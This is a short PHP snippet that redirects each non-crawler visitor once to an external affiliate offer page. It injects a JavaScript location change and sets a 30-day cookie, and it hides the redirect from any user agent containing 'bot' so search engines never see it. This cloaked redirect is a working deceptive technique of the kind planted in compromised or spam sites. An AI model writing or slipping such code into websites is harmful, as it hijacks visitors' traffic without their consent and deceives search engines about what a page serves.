<?php
// shown once to each visitor who is not a search engine: off to the offer
$offer = 'https://offers.example.net/lp/?sub=site7';
$ua = $_SERVER['HTTP_USER_AGENT'] ?? '';
if (!isset($_COOKIE['seen']) && stripos($ua, 'bot') === false) {
    setcookie('seen', '1', time() + 86400 * 30, '/');
    echo '<script>window.location.href = "' . $offer . '";</script>';
}
